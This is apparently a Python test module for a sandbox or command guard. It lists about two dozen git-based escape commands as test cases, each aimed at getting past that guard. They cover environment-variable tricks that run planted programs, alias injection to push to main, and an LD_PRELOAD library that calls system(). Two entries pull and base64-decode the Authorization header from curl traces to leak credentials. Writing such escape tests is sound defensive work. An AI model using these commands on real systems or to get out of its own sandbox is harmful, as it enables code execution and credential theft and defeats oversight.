"""Variables by which git runs programs, reads other configuration, or tells what it knows."""

from __future__ import annotations

from tests.escape.attack import Attack

_ALIAS = "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='push origin HEAD:main'"

ATTACKS = (
    Attack("GIT_SSH_COMMAND", "GIT_SSH_COMMAND=$PLANT git ls-remote ssh://git.invalid/x"),
    Attack("GIT_SSH", "GIT_SSH=$PLANT git ls-remote ssh://git.invalid/x"),
    Attack("GIT_PROXY_COMMAND", "GIT_PROXY_COMMAND=$PLANT git ls-remote git://git.invalid/x"),
    Attack("GIT_ASKPASS", "GIT_ASKPASS=$DEAF git -c credential.helper= ls-remote $EVIL/x"),
    Attack("SSH_ASKPASS", "SSH_ASKPASS=$DEAF git -c credential.helper= ls-remote $EVIL/x"),
    Attack("GIT_EXTERNAL_DIFF", "GIT_EXTERNAL_DIFF=$PLANT git diff HEAD~1"),
    Attack("GIT_EDITOR", "GIT_EDITOR=$PLANT git commit --allow-empty"),
    Attack("VISUAL", "TERM=xterm VISUAL=$PLANT git commit --allow-empty"),
    Attack("EDITOR", "EDITOR=$PLANT git commit --allow-empty"),
    Attack("GIT_SEQUENCE_EDITOR", "GIT_SEQUENCE_EDITOR=$PLANT git rebase -i HEAD~1"),
    Attack("GIT_CONFIG_COUNT, alias", f"{_ALIAS} git p"),
    Attack("GIT_CONFIG_COUNT, program",
           "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=$PLANT git status"),
    Attack("GIT_CONFIG_PARAMETERS", "GIT_CONFIG_PARAMETERS=\"'alias.p'='push origin HEAD:main'\" git p"),
    Attack("--config-env", "X='push origin HEAD:main' git --config-env=alias.p=X p"),
    Attack("GIT_CONFIG_GLOBAL",
           "git config -f extra alias.p 'push origin HEAD:main'; "
           "git config -f extra include.path \"$HOME/.gitconfig\"; GIT_CONFIG_GLOBAL=$W/extra git p"),
    Attack("GIT_CONFIG_SYSTEM",
           "git config -f extra alias.p 'push origin HEAD:main'; "
           "GIT_CONFIG_NOSYSTEM=0 GIT_CONFIG_SYSTEM=$W/extra git p"),
    Attack("configuration of one's own home",
           "git config -f $HOME/.gitconfig alias.p 'push origin HEAD:main'; git p"),
    Attack("XDG_CONFIG_HOME",
           "mkdir -p x/git; git config -f x/git/config alias.p 'push origin HEAD:main'; XDG_CONFIG_HOME=$W/x git p"),
    Attack("GIT_DIR", "cd /; GIT_DIR=$W/.git git push origin HEAD:main"),
    Attack("GIT_EXEC_PATH",
           "mkdir x; for p in $(git --exec-path)/*; do ln -s $p x/; done; rm x/git-remote-http; cp $DEAF x/git-remote-http; "
           "GIT_EXEC_PATH=$W/x git ls-remote origin"),
    Attack("GIT_TEMPLATE_DIR",
           "mkdir -p t/hooks; cp $PLANT t/hooks/post-checkout; GIT_TEMPLATE_DIR=$W/t git clone -q $W copy"),
    Attack("LD_PRELOAD",
           "printf '#include <stdlib.h>\\n__attribute__((constructor)) void f(void)"
           "{ unsetenv(\"LD_PRELOAD\"); system(\"%s\"); }\\n' $PLANT >p.c; "
           "cc -shared -fPIC -o p.so p.c; LD_PRELOAD=$W/p.so git status"),
    Attack("GIT_TRACE_CURL", "GIT_TRACE_CURL=1 GIT_TRACE_REDACT=0 git ls-remote origin 2>&1 | "
           "sed -n 's/.*Authorization: Basic //p' | head -n 1 | base64 -d 2>/dev/null", "leaked"),
    Attack("GIT_CURL_VERBOSE", "GIT_CURL_VERBOSE=1 GIT_TRACE_REDACT=0 git ls-remote origin 2>&1 | "
           "sed -n 's/.*Authorization: Basic //p' | head -n 1 | base64 -d 2>/dev/null", "leaked"),
)  # fmt: skip
